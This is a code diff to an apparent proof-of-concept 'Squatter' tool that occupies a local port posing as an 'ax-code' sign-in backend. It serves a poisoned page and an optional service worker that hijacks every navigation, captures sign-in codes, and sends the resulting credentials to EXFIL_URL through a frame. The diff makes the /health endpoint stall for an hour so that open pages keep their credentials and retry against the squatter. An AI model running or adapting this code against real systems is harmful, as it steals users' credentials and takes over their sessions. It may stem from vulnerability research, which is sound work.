@@ -156,7 +156,8 @@ class Squatter:
 # year ("immutable"); VARIANT `worker` registers a service worker at `/sw.js` (scope `/`) that
 # answers every later navigation itself. Either way the planted script, when it runs in a page
 # that carries a sign-in code, exchanges the code with whatever backend answers `/signin` and
-# sends the credential to EXFIL_URL through a frame. It prints `ready` once both addresses are
+# sends the credential to EXFIL_URL through a frame. It never answers `/health`, so an open page
+# keeps its credential and tries again after it left. It prints `ready` once both addresses are
 # held and one line per request it served.
 
 POISON_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>ax-code</title>
@@ -183,7 +184,10 @@ const steal = async () => {
   }
 };
 steal();
-if (WORKER && navigator.serviceWorker) navigator.serviceWorker.register('/sw.js', { scope: '/' });
+if (WORKER && navigator.serviceWorker) {
+  navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(
+    () => { window.__worker = 'registered'; }, (e) => { window.__worker = String(e); });
+}
 """
 
 # The worker: answers every navigation with the planted page and its script, and copies the
@@ -225,7 +229,9 @@ def poison(port, exfil, variant):
             elif path.startswith("/assets/") and path.endswith(".js"):
                 self.send("text/javascript", script, forever)
             elif path.startswith("/health"):
-                self.send("application/json", json.dumps({"ok": True, "proof": "0" * 64}), "no-store")
+                # No answer while the squatter is here (a wrong proof would make an open page
+                # stop and forget its credential): the page retries once it left.
+                time.sleep(3600)
             else:
                 self.send("text/html", POISON_PAGE, forever)
             print("served", path, flush=True)
